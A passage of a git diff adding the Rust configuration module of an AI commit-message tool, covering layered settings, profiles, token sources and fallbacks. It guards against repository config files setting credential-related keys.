@@ -0,0 +1,1587 @@
+/*!
+ * Copyright (c) 2026 mingcheng <mingcheng@apache.org>
+ *
+ * This source code is licensed under the MIT License,
+ * which is located in the LICENSE file in the source tree's root directory.
+ *
+ * Layered configuration.
+ *
+ * Settings are merged from several sources. From lowest to highest
+ * precedence:
+ *
+ * 1. built-in defaults
+ * 2. the user config file (`$XDG_CONFIG_HOME/aigitcommit/config.toml`)
+ * 3. the repository config file (`<workdir>/.aigitcommit.toml`)
+ * 4. git config `aigitcommit.*` keys (system, global, local, `includeIf`)
+ * 5. environment variables (`OPENAI_*`, `AIGITCOMMIT_*`)
+ * 6. the selected profile (`[profiles.<name>]`), if any
+ * 7. command-line flags
+ *
+ * A profile is a named table overlaid on the merged configuration. It lets
+ * users switch between providers (base URL, token, model, proxy, timeout,
+ * headers) with a single `--profile` flag or `AIGITCOMMIT_PROFILE`.
+ *
+ * Every layer is flattened into dotted keys before merging, so each
+ * effective value remembers which source it came from.
+ *
+ * File: config.rs
+ * Author: mingcheng <mingcheng@apache.org>
+ * File Created: 2026-10-16 10:12:40
+ *
+ * Modified By: mingcheng <mingcheng@apache.org>
+ * Last Modified: 2026-10-16 10:12:40
+ */
+
+use crate::credential;
+use crate::git::history::HistoryConfig;
+use crate::provider::azure::AzureConfig;
+use crate::provider::ollama::OllamaConfig;
+use crate::provider::openai::OpenAIConfig;
+use crate::provider::retry::RetryConfig;
+use crate::provider::{Params, ProviderKind};
+use crate::summarize::SummarizeConfig;
+use crate::utils::OutputFormat;
+use async_openai::types::chat::{ReasoningEffort, Verbosity};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::error::Error;
+use std::fmt::{Display, Formatter};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+use toml::{Table, Value};
+use tracing::{trace, warn};
+
+/// Default model used when nothing else is configured.
+pub const DEFAULT_MODEL: &str = "gpt-5";
+
+/// Default number of recent commits sent to the model as style reference.
+pub const DEFAULT_LOG_COUNT: usize = 5;
+
+/// Default similarity percentage for rename and copy detection, as in git.
+pub const DEFAULT_RENAME_THRESHOLD: u16 = 50;
+
+/// Default language of generated commit messages.
+pub const DEFAULT_LANGUAGE: &str = "English";
+
+/// File name of the repository-local config file, relative to the workdir.
+pub const REPO_CONFIG_FILE: &str = ".aigitcommit.toml";
+
+/// Value type of a configuration key.
+///
+/// Environment variables and command-line flags only carry strings; the kind
+/// tells the loader how to turn them into typed TOML values.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    String,
+    Bool,
+    Integer,
+    /// A finite floating-point number.
+    Float,
+    /// Comma-separated on the command line and in environment variables;
+    /// a multi-valued key in git config.
+    List,
+    /// Any TOML literal (number, boolean, quoted string); anything that does
+    /// not parse as one is taken as a plain string.
+    Any,
+}
+
+/// Static description of a supported configuration key.
+#[derive(Debug)]
+pub struct Key {
+    /// Dotted key name as used in the config files.
+    pub name: &'static str,
+    /// Environment variables mapped onto this key, in lookup order.
+    pub env: &'static [&'static str],
+    pub kind: Kind,
+    /// Whether the value must be masked when displayed.
+    pub secret: bool,
+}
+
+/// All keys understood by the loader.
+pub const KEYS: &[Key] = &[
+    Key {
+        name: "model",
+        env: &["OPENAI_MODEL_NAME"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "provider",
+        env: &["AIGITCOMMIT_PROVIDER"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "api_base",
+        env: &["OPENAI_API_BASE"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "api_token",
+        env: &["OPENAI_API_TOKEN"],
+        kind: Kind::String,
+        secret: true,
+    },
+    Key {
+        name: "api_token_env",
+        env: &[],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "api_token_command",
+        env: &["AIGITCOMMIT_TOKEN_COMMAND"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "api_token_file",
+        env: &["AIGITCOMMIT_TOKEN_FILE"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "proxy",
+        env: &["OPENAI_API_PROXY"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "timeout",
+        // `OPENAI_REQUEST_TIMEOUT` is the legacy name, kept for compatibility.
+        env: &["OPENAI_API_TIMEOUT", "OPENAI_REQUEST_TIMEOUT"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "signoff",
+        env: &["AIGITCOMMIT_SIGNOFF"],
+        kind: Kind::Bool,
+        secret: false,
+    },
+    Key {
+        name: "stream",
+        env: &["AIGITCOMMIT_STREAM"],
+        kind: Kind::Bool,
+        secret: false,
+    },
+    Key {
+        name: "max_prompt_tokens",
+        env: &["AIGITCOMMIT_MAX_PROMPT_TOKENS"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "temperature",
+        env: &["AIGITCOMMIT_TEMPERATURE"],
+        kind: Kind::Float,
+        secret: false,
+    },
+    Key {
+        name: "top_p",
+        env: &["AIGITCOMMIT_TOP_P"],
+        kind: Kind::Float,
+        secret: false,
+    },
+    Key {
+        name: "max_completion_tokens",
+        env: &["AIGITCOMMIT_MAX_COMPLETION_TOKENS"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "seed",
+        env: &["AIGITCOMMIT_SEED"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "stop",
+        env: &["AIGITCOMMIT_STOP"],
+        kind: Kind::List,
+        secret: false,
+    },
+    Key {
+        name: "reasoning_effort",
+        env: &["AIGITCOMMIT_REASONING_EFFORT"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "verbosity",
+        env: &["AIGITCOMMIT_VERBOSITY"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "log_count",
+        env: &["AIGITCOMMIT_LOG_COUNT"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "history.paths",
+        env: &["AIGITCOMMIT_HISTORY_PATHS"],
+        kind: Kind::Bool,
+        secret: false,
+    },
+    Key {
+        name: "history.author",
+        env: &["AIGITCOMMIT_HISTORY_AUTHOR"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "profile",
+        env: &["AIGITCOMMIT_PROFILE"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "language",
+        env: &["AIGITCOMMIT_LANGUAGE"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "output",
+        env: &["AIGITCOMMIT_OUTPUT"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "exclude",
+        env: &["AIGITCOMMIT_EXCLUDE"],
+        kind: Kind::List,
+        secret: false,
+    },
+    Key {
+        name: "rename_threshold",
+        env: &["AIGITCOMMIT_RENAME_THRESHOLD"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "retry.max_retries",
+        env: &["AIGITCOMMIT_MAX_RETRIES"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "retry.initial_delay_ms",
+        env: &[],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "retry.max_delay_ms",
+        env: &[],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "retry.max_elapsed",
+        env: &[],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "summarize.enabled",
+        env: &["AIGITCOMMIT_SUMMARIZE"],
+        kind: Kind::Bool,
+        secret: false,
+    },
+    Key {
+        name: "summarize.concurrency",
+        env: &["AIGITCOMMIT_SUMMARIZE_CONCURRENCY"],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "openai.api",
+        env: &["AIGITCOMMIT_OPENAI_API"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "ollama.num_ctx",
+        env: &[],
+        kind: Kind::Integer,
+        secret: false,
+    },
+    Key {
+        name: "ollama.keep_alive",
+        env: &[],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "ollama.pull",
+        env: &[],
+        kind: Kind::Bool,
+        secret: false,
+    },
+    Key {
+        name: "azure.endpoint",
+        env: &["AZURE_OPENAI_ENDPOINT"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "azure.deployment",
+        env: &["AZURE_OPENAI_DEPLOYMENT"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "azure.api_version",
+        env: &["AZURE_OPENAI_API_VERSION", "OPENAI_API_VERSION"],
+        kind: Kind::String,
+        secret: false,
+    },
+    Key {
+        name: "azure.token_command",
+        env: &[],
+        kind: Kind::String,
+        secret: false,
+    },
+];
+
+/// Keys that each describe where the API token comes from. Setting one of
+/// them in a layer discards the others from lower layers, so a profile that
+/// reads its token from a different variable is not shadowed by a global
+/// `OPENAI_API_TOKEN`.
+const TOKEN_SOURCE_KEYS: &[&str] = &[
+    "api_token",
+    "api_token_env",
+    "api_token_command",
+    "api_token_file",
+];
+
+/// Keys that run commands, read secrets or decide where the token is sent.
+/// A cloned repository is not trusted with them, so its config file may not
+/// set them, not even inside a profile.
+const USER_ONLY_KEYS: &[&str] = &[
+    "api_base",
+    "api_token",
+    "api_token_env",
+    "api_token_command",
+    "api_token_file",
+    "azure.endpoint",
+    "azure.token_command",
+];
+
+/// Whether `key`, possibly inside `profiles.<name>`, is refused in the
+/// repository config file.
+pub fn is_user_only(key: &str) -> bool {
+    USER_ONLY_KEYS.contains(&without_profile(key))
+}
+
+/// `key` with a leading `profiles.<name>.` removed.
+fn without_profile(key: &str) -> &str {
+    match key.strip_prefix("profiles.") {
+        Some(rest) => rest.split_once('.').map_or(rest, |(_, k)| k),
+        None => key,
+    }
+}
+
+/// Look up the static definition of `name`.
+pub fn find_key(name: &str) -> Option<&'static Key> {
+    KEYS.iter().find(|k| k.name == name)
+}
+
+/// One entry of the `[[fallback]]` list, tried in order when the primary
+/// provider fails with a retryable error.
+///
+/// Unset fields inherit from the primary configuration; `profile` overlays
+/// a whole profile first, then `provider` and `model` apply on top.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Fallback {
+    pub provider: Option<ProviderKind>,
+    pub model: Option<String>,
+    pub profile: Option<String>,
+}
+
+/// Effective, typed configuration.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// Model identifier sent to the API.
+    pub model: String,
+    /// Backend used to generate messages.
+    pub provider: ProviderKind,
+    /// Base URL of the API. Each provider has its own default.
+    pub api_base: Option<String>,
+    /// Bearer token used to authenticate against the API.
+    pub api_token: String,
+    /// Name of an environment variable holding the bearer token.
+    pub api_token_env: Option<String>,
+    /// Shell command printing the bearer token, like a git credential helper.
+    pub api_token_command: Option<String>,
+    /// File containing the bearer token; must not be readable by others.
+    pub api_token_file: Option<String>,
+    /// HTTP or SOCKS5 proxy URL.
+    pub proxy: Option<String>,
+    /// Request timeout in seconds. `0` disables the timeout.
+    pub timeout: u64,
+    /// Append a `Signed-off-by` trailer to generated messages.
+    pub signoff: bool,
+    /// Render the message live on the terminal while it is generated.
+    pub stream: bool,
+    /// Prompt token budget; the diff is trimmed to fit. Derived from the
+    /// model family when unset, `0` disables trimming.
+    pub max_prompt_tokens: Option<usize>,
+    /// Per-file summarization of diffs that overflow the prompt budget.
+    pub summarize: SummarizeConfig,
+    /// Sampling temperature.
+    pub temperature: Option<f64>,
+    /// Nucleus sampling probability mass.
+    pub top_p: Option<f64>,
+    /// Upper bound of generated tokens, including reasoning tokens.
+    pub max_completion_tokens: Option<u32>,
+    /// Seed for best-effort deterministic sampling.
+    pub seed: Option<i64>,
+    /// Sequences that end generation.
+    pub stop: Vec<String>,
+    /// Reasoning effort of reasoning models: `none`, `minimal`, `low`,
+    /// `medium`, `high` or `xhigh`. The model default when unset.
+    pub reasoning_effort: Option<ReasoningEffort>,
+    /// Verbosity of the answer: `low`, `medium` or `high`.
+    pub verbosity: Option<Verbosity>,
+    /// Number of recent commits used as style reference.
+    pub log_count: usize,
+    /// How the commits used as style reference are selected.
+    pub history: HistoryConfig,
+    /// Retry policy for transient API failures.
+    pub retry: RetryConfig,
+    /// Extra HTTP headers sent with every API request.
+    pub headers: BTreeMap<String, String>,
+    /// Name of the selected profile.
+    pub profile: Option<String>,
+    /// Named profiles, each a partial configuration overlaid when selected.
+    pub profiles: BTreeMap<String, Table>,
+    /// Language of generated commit messages.
+    pub language: String,
+    /// Output format: `table`, `json` or `text`.
+    pub output: OutputFormat,
+    /// Gitignore-syntax patterns excluded from the diff, on top of the
+    /// built-in list.
+    pub exclude: Vec<String>,
+    /// Similarity percentage above which files are shown as renamed or
+    /// copied; `0` disables the detection.
+    pub rename_threshold: u16,
+    /// Settings of the OpenAI provider.
+    pub openai: OpenAIConfig,
+    /// Settings of the native Ollama provider.
+    pub ollama: OllamaConfig,
+    /// Settings of the Azure OpenAI provider.
+    pub azure: AzureConfig,
+    /// Providers tried in order when the primary one fails.
+    pub fallback: Vec<Fallback>,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            model: DEFAULT_MODEL.to_string(),
+            provider: ProviderKind::default(),
+            api_base: None,
+            api_token: String::new(),
+            api_token_env: None,
+            api_token_command: None,
+            api_token_file: None,
+            proxy: None,
+            timeout: 0,
+            signoff: false,
+            stream: false,
+            max_prompt_tokens: None,
+            summarize: SummarizeConfig::default(),
+            temperature: None,
+            top_p: None,
+            max_completion_tokens: None,
+            seed: None,
+            stop: Vec::new(),
+            reasoning_effort: None,
+            verbosity: None,
+            log_count: DEFAULT_LOG_COUNT,
+            history: HistoryConfig::default(),
+            retry: RetryConfig::default(),
+            headers: BTreeMap::new(),
+            profile: None,
+            profiles: BTreeMap::new(),
+            language: DEFAULT_LANGUAGE.to_string(),
+            output: OutputFormat::Table,
+            exclude: Vec::new(),
+            rename_threshold: DEFAULT_RENAME_THRESHOLD,
+            openai: OpenAIConfig::default(),
+            ollama: OllamaConfig::default(),
+            azure: AzureConfig::default(),
+            fallback: Vec::new(),
+        }
+    }
+}
+
+impl Config {
+    /// Load the effective configuration for the given repository workdir.
+    ///
+    /// When `repo_dir` is `None`, only the user-level git config is read.
+    ///
+    /// `overrides` holds `(key, value)` pairs taken from command-line flags.
+    /// Strings are parsed by the kind of their key, arrays are list values
+    /// taken as they are.
+    pub fn load(
+        repo_dir: Option<&Path>,
+        overrides: &[(&str, Value)],
+    ) -> Result<Self, Box<dyn Error>> {
+        Layers::load(repo_dir, overrides)?.config()
+    }
+
+    /// Request timeout, or `None` when the HTTP client default should be kept.
+    pub fn timeout(&self) -> Option<Duration> {
+        (self.timeout > 0).then(|| Duration::from_secs(self.timeout))
+    }
+
+    /// Resolve the bearer token.
+    ///
+    /// When a layer sets several token sources at once, the command wins over
+    /// the file, which wins over the environment variable and the literal.
+    pub fn api_token(&self) -> Result<String, Box<dyn Error>> {
+        let non_empty = |v: &Option<String>| v.clone().filter(|v| !v.trim().is_empty());
+
+        if let Some(command) = non_empty(&self.api_token_command) {
+            return credential::from_command(&command);
+        }
+        if let Some(path) = non_empty(&self.api_token_file) {
+            return credential::from_file(&expand_home(&path));
+        }
+        if let Some(var) = non_empty(&self.api_token_env) {
+            return std::env::var(&var)
+                .map_err(|_| format!("api_token_env points to `{var}`, which is not set").into());
+        }
+        Ok(self.api_token.clone())
+    }
+
+    /// Sampling and generation parameters sent with every request.
+    pub fn params(&self) -> Params {
+        Params {
+            temperature: self.temperature,
+            top_p: self.top_p,
+            max_completion_tokens: self.max_completion_tokens,
+            seed: self.seed,
+            stop: self.stop.clone(),
+            reasoning_effort: self.reasoning_effort.clone(),
+            verbosity: self.verbosity.clone(),
+        }
+    }
+
+    /// Proxy URL, ignoring empty values.
+    pub fn proxy(&self) -> Option<&str> {
+        self.proxy.as_deref().filter(|p| !p.is_empty())
+    }
+
+    /// Effective configuration of a fallback entry. The result has no
+    /// fallbacks of its own.
+    pub fn for_fallback(&self, fallback: &Fallback) -> Result<Config, Box<dyn Error>> {
+        let mut config = match &fallback.profile {
+            Some(name) => self.with_profile(name)?,
+            None => self.clone(),
+        };
+        if let Some(provider) = fallback.provider {
+            config.provider = provider;
+        }
+        if let Some(model) = &fallback.model {
+            config.model = model.clone();
+        }
+        config.fallback.clear();
+        Ok(config)
+    }
+
+    /// Overlay `profiles.<name>` onto this configuration, with the same
+    /// token-source rules as the layered loader.
+    fn with_profile(&self, name: &str) -> Result<Config, Box<dyn Error>> {
+        let overlay = self
+            .profiles
+            .get(name)
+            .ok_or_else(|| format!("profile `{name}` is not defined"))?;
+
+        let mut root = Table::try_from(self)?;
+        if overlay
+            .keys()
+            .any(|k| TOKEN_SOURCE_KEYS.contains(&k.as_str()))
+        {
+            for key in TOKEN_SOURCE_KEYS {
+                root.remove(*key);
+            }
+        }
+        let mut flat = Vec::new();
+        flatten(overlay, "", &mut flat);
+        for (key, value) in flat {
+            insert_path(&mut root, &key, value);
+        }
+        Ok(root
+            .try_into()
+            .map_err(|e| format!("invalid profile `{name}`: {e}"))?)
+    }
+}
+
+/// Where an effective value came from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Source {
+    Default,
+    UserFile(PathBuf),
+    RepoFile(PathBuf),
+    GitConfig(String),
+    Env(&'static str),
+    Profile(String),
+    Cli,
+}
+
+impl Display for Source {
+    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Default => write!(f, "built-in default"),
+            Self::UserFile(p) => write!(f, "user config file {}", p.display()),
+            Self::RepoFile(p) => write!(f, "repository config file {}", p.display()),
+            Self::GitConfig(name) => write!(f, "git config {name}"),
+            Self::Env(var) => write!(f, "environment variable {var}"),
+            Self::Profile(name) => write!(f, "profile `{name}`"),
+            Self::Cli => write!(f, "command-line flag"),
+        }
+    }
+}
+
+/// A single effective value and its origin.
+#[derive(Debug, Clone)]
+pub struct Entry {
+    pub value: Value,
+    pub source: Source,
+}
+
+/// Merged view of all configuration layers, keyed by dotted key path.
+#[derive(Debug, Default)]
+pub struct Layers {
+    entries: BTreeMap<String, Entry>,
+}
+
+impl Layers {
+    /// Merge all layers for the given repository workdir.
+    pub fn load(
+        repo_dir: Option<&Path>,
+        overrides: &[(&str, Value)],
+    ) -> Result<Self, Box<dyn Error>> {
+        let repo_file = repo_dir.map(|d| d.join(REPO_CONFIG_FILE));
+        // The repository config includes the global and system files as well
+        // as any `includeIf` sections that match this working tree.
+        let git_config = match repo_dir {
+            Some(dir) => git2::Repository::open(dir).and_then(|r| r.config()),
+            None => git2::Config::open_default(),
+        }
+        .map_err(|e| warn!("failed to open git config: {e}"))
+        .ok();
+
+        Self::load_from(
+            user_config_path().as_deref(),
+            repo_file.as_deref(),
+            git_config.as_ref(),
+            |var| std::env::var(var).ok(),
+            overrides,
+        )
+    }
+
+    fn load_from(
+        user_file: Option<&Path>,
+        repo_file: Option<&Path>,
+        git_config: Option<&git2::Config>,
+        env: impl Fn(&str) -> Option<String>,
+        overrides: &[(&str, Value)],
+    ) -> Result<Self, Box<dyn Error>> {
+        let mut layers = Self::default();
+
+        let defaults = Table::try_from(Config::default())?;
+        layers.merge_table(&defaults, &Source::Default);
+
+        if let Some(path) = user_file {
+            layers.merge_file(path, Source::UserFile(path.to_path_buf()))?;
+        }
+        if let Some(path) = repo_file {
+            layers.merge_file(path, Source::RepoFile(path.to_path_buf()))?;
+        }
+        if let Some(git_config) = git_config {
+            layers.merge_git_config(git_config)?;
+        }
+
+        for key in KEYS {
+            // The first variable that is set wins; later names are fallbacks.
+            let Some((var, raw)) = key
+                .env
+                .iter()
+                .find_map(|var| env(var).filter(|v| !v.is_empty()).map(|v| (*var, v)))
+            else {
+                continue;
+            };
+            match parse_value(key.kind, &raw) {
+                Ok(value) => layers.set(key.name, value, Source::Env(var)),
+                Err(e) => warn!("ignoring invalid {var}={raw:?}: {e}"),
+            }
+        }
+
+        let mut cli = Vec::with_capacity(overrides.len());
+        for (name, value) in overrides {
+            let key = find_key(name).ok_or_else(|| format!("unknown config key `{name}`"))?;
+            let value = match value {
+                Value::String(raw) => parse_value(key.kind, raw)
+                    .map_err(|e| format!("invalid value for `{name}`: {e}"))?,
+                // Already split by the caller, so items may contain commas.
+                Value::Array(_) if key.kind == Kind::List => value.clone(),
+                other => return Err(format!("invalid value for `{name}`: {other}").into()),
+            };
+            cli.push((key.name, value));
+        }
+
+        // The profile name itself may come from any layer, including the CLI,
+        // so resolve it before overlaying the profile beneath the CLI values.
+        let profile = cli
+            .iter()
+            .find(|(k, _)| *k == "profile")
+            .map(|(_, v)| v)
+            .or_else(|| layers.get("profile").map(|e| &e.value))
+            .and_then(Value::as_str)
+            .filter(|p| !p.is_empty())
+            .map(str::to_string);
+        if let Some(name) = profile {
+            layers.apply_profile(&name)?;
+        }
+
+        for (key, value) in cli {
+            layers.set(key, value, Source::Cli);
+        }
+
+        Ok(layers)
+    }
+
+    /// Overlay the entries of `profiles.<name>` onto the root keys.
+    fn apply_profile(&mut self, name: &str) -> Result<(), Box<dyn Error>> {
+        let prefix = format!("profiles.{name}.");
+        let overlay: Vec<(String, Value)> = self
+            .entries
+            .iter()
+            .filter_map(|(k, e)| {
+                k.strip_prefix(&prefix)
+                    .map(|rest| (rest.to_string(), e.value.clone()))
+            })
+            .collect();
+        if overlay.is_empty() {
+            return Err(format!("profile `{name}` is not defined").into());
+        }
+
+        trace!("applying profile `{name}`");
+        for (key, value) in overlay {
+            if key == "profile" || key.starts_with("profiles.") {
+                return Err(format!("profile `{name}` cannot set `{key}`").into());
+            }
+            self.set(&key, value, Source::Profile(name.to_string()));
+        }
+        Ok(())
+    }
+
+    /// Look up the effective entry for a dotted key.
+    pub fn get(&self, key: &str) -> Option<&Entry> {
+        self.entries.get(key)
+    }
+
+    /// Iterate over all effective entries in key order.
+    pub fn iter(&self) -> impl Iterator<Item = (&str, &Entry)> {
+        self.entries.iter().map(|(k, e)| (k.as_str(), e))
+    }
+
+    /// Deserialize the merged entries into a typed [`Config`].
+    pub fn config(&self) -> Result<Config, Box<dyn Error>> {
+        let mut root = Table::new();
+        for (key, entry) in &self.entries {
+            insert_path(&mut root, key, entry.value.clone());
+        }
+        Ok(root
+            .try_into()
+            .map_err(|e| format!("invalid configuration: {e}"))?)
+    }
+
+    fn set(&mut self, key: &str, value: Value, source: Source) {
+        // Token sources of the same layer coexist, whatever variable or git
+        // key set them; `Config::api_token` picks between them.
+        if TOKEN_SOURCE_KEYS.contains(&key) {
+            let layer = std::mem::discriminant(&source);
+            self.entries.retain(|k, e| {
+                !TOKEN_SOURCE_KEYS.contains(&k.as_str())
+                    || std::mem::discriminant(&e.source) == layer
+            });
+        }
+        self.entries
+            .insert(key.to_string(), Entry { value, source });
+    }
+
+    fn merge_file(&mut self, path: &Path, source: Source) -> Result<(), Box<dyn Error>> {
+        let content = match fs::read_to_string(path) {
+            Ok(content) => content,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+                trace!("config file {} not found, skipping", path.display());
+                return Ok(());
+            }
+            Err(e) => return Err(format!("failed to read {}: {e}", path.display()).into()),
+        };
+
+        let table: Table = content
+            .parse()
+            .map_err(|e| format!("failed to parse {}: {e}", path.display()))?;
+        if matches!(source, Source::RepoFile(_)) {
+            let mut flat = Vec::new();
+            flatten(&table, "", &mut flat);
+            if let Some((key, _)) = flat.iter().find(|(k, _)| is_user_only(k)) {
+                return Err(format!(
+                    "`{key}` cannot be set in the repository config file {}; \
+                     set it in the user config file, git config or the environment",
+                    path.display()
+                )
+                .into());
+            }
+        }
+        trace!("loaded config file {}", path.display());
+        self.merge_table(&table, &source);
+        Ok(())
+    }
+
+    /// Merge `aigitcommit.<name>` entries. Git lowercases variable names and
+    /// forbids underscores, so `aigitcommit.logCount` and
+    /// `aigitcommit.log-count` both map to `log_count`.
+    fn merge_git_config(&mut self, config: &git2::Config) -> Result<(), Box<dyn Error>> {
+        let mut names = Vec::new();
+        let mut entries = config.entries(Some(r"^aigitcommit\."))?;
+        while let Some(entry) = entries.next() {
+            if let Some(name) = entry?.name() {
+                names.push(name.to_string());
+            }
+        }
+        names.sort();
+        names.dedup();
+
+        for name in names {
+            let variable = &name["aigitcommit.".len()..];
+            let Some(key) = KEYS
+                .iter()
+                .find(|k| normalize_git_name(k.name) == normalize_git_name(variable))
+            else {
+                trace!("ignoring unknown git config key {name}");
+                continue;
+            };
+            // Booleans follow git's rules, so a valueless `signoff` is true.
+            if key.kind == Kind::Bool {
+                match config.get_bool(&name) {
+                    Ok(b) => self.set(key.name, Value::Boolean(b), Source::GitConfig(name)),
+                    Err(e) => warn!("ignoring invalid git config {name}: {e}"),
+                }
+                continue;
+            }
+            // `get_string` returns the highest-priority value for the name;
+            // list keys collect every value across all config files instead.
+            let raw = if key.kind == Kind::List {
+                let mut values = Vec::new();
+                let mut entries = config.multivar(&name, None)?;
+                while let Some(entry) = entries.next() {
+                    values.extend(entry?.value().map(str::to_string));
+                }
+                values.join(",")
+            } else {
+                config.get_string(&name)?
+            };
+            match parse_value(key.kind, &raw) {
+                Ok(value) => self.set(key.name, value, Source::GitConfig(name)),
+                Err(e) => warn!("ignoring invalid git config {name}={raw:?}: {e}"),
+            }
+        }
+        Ok(())
+    }
+
+    fn merge_table(&mut self, table: &Table, source: &Source) {
+        let mut flat = Vec::new();
+        flatten(table, "", &mut flat);
+        for (key, value) in flat {
+            self.set(&key, value, source.clone());
+        }
+    }
+}
+
+/// Expand a leading `~/` to the user's home directory.
+fn expand_home(path: &str) -> PathBuf {
+    match (path.strip_prefix("~/"), std::env::var_os("HOME")) {
+        (Some(rest), Some(home)) => PathBuf::from(home).join(rest),
+        _ => PathBuf::from(path),
+    }
+}
+
+/// Location of the user-level config file, honouring `XDG_CONFIG_HOME`.
+pub fn user_config_path() -> Option<PathBuf> {
+    let base = std::env::var_os("XDG_CONFIG_HOME")
+        .filter(|v| !v.is_empty())
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config")))?;
+    Some(base.join("aigitcommit").join("config.toml"))
+}
+
+/// Case-folded form of a key with `_` and `-` removed, for git config lookups.
+fn normalize_git_name(name: &str) -> String {
+    name.chars()
+        .filter(|c| *c != '_' && *c != '-')
+        .map(|c| c.to_ascii_lowercase())
+        .collect()
+}
+
+/// Value kind of any dotted key, including profile, header and
+/// pass-through option entries.
+pub fn kind_of(key: &str) -> Option<Kind> {
+    let key = match key.strip_prefix("profiles.") {
+        Some(rest) => rest.split_once('.')?.1,
+        None => key,
+    };
+    if key.starts_with("headers.") {
+        return Some(Kind::String);
+    }
+    if key.starts_with("ollama.options.") {
+        return Some(Kind::Any);
+    }
+    find_key(key).map(|k| k.kind)
+}
+
+/// Whether the value of `key` must be masked when displayed.
+///
+/// Extra HTTP headers often carry credentials such as `Authorization`, so
+/// all of them are masked.
+pub fn is_secret(key: &str) -> bool {
+    let key = without_profile(key);
+    key.starts_with("headers.") || find_key(key).is_some_and(|k| k.secret)
+}
+
+/// Set `key` to `values` in the TOML file at `path`, creating it if needed.
+///
+/// List keys take every value as one item, kept whole so that commas in
+/// glob patterns survive; other keys take exactly one value. The file is
+/// edited in place so comments and formatting are preserved.
+pub fn set_in_file(
+    path: &Path,
+    key: &str,
+    values: &[impl AsRef<str>],
+) -> Result<(), Box<dyn Error>> {
+    let kind = kind_of(key).ok_or_else(|| format!("unknown config key `{key}`"))?;
+    let value = if kind == Kind::List {
+        toml_edit::value(
+            values
+                .iter()
+                .map(|v| v.as_ref().trim())
+                .filter(|v| !v.is_empty())
+                .collect::<toml_edit::Array>(),
+        )
+    } else {
+        let [raw] = values else {
+            return Err(format!("`{key}` takes a single value").into());
+        };
+        let raw = raw.as_ref();
+        match parse_value(kind, raw)? {
+            Value::Boolean(b) => toml_edit::value(b),
+            Value::Integer(n) => toml_edit::value(n),
+            Value::Float(f) => toml_edit::value(f),
+            _ => toml_edit::value(raw.trim()),
+        }
+    };
+
+    let mut doc = read_document(path)?;
+    let mut parts: Vec<&str> = key.split('.').collect();
+    let leaf = parts.pop().ok_or("empty config key")?;
+    let mut table = doc.as_table_mut();
+    for part in parts {
+        let item = table.entry(part).or_insert_with(|| {
+            // Implicit tables avoid emitting empty `[profiles]` headers.
+            let mut t = toml_edit::Table::new();
+            t.set_implicit(true);
+            toml_edit::Item::Table(t)
+        });
+        table = item
+            .as_table_mut()
+            .ok_or_else(|| format!("`{part}` is not a table in {}", path.display()))?;
+    }
+    table.insert(leaf, value);
+
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir)?;
+    }
+    fs::write(path, doc.to_string())?;
+    Ok(())
+}
+
+/// Remove `key` from the TOML file at `path`. Returns whether it was present.
+pub fn unset_in_file(path: &Path, key: &str) -> Result<bool, Box<dyn Error>> {
+    if !path.exists() {
+        return Ok(false);
+    }
+    let mut doc = read_document(path)?;
+    let mut parts: Vec<&str> = key.split('.').collect();
+    let leaf = parts.pop().ok_or("empty config key")?;
+    let mut table = doc.as_table_mut();
+    for part in parts {
+        match table.get_mut(part).and_then(toml_edit::Item::as_table_mut) {
+            Some(next) => table = next,
+            None => return Ok(false),
+        }
+    }
+    if table.remove(leaf).is_none() {
+        return Ok(false);
+    }
+    fs::write(path, doc.to_string())?;
+    Ok(true)
+}
+
+fn read_document(path: &Path) -> Result<toml_edit::DocumentMut, Box<dyn Error>> {
+    let content = match fs::read_to_string(path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
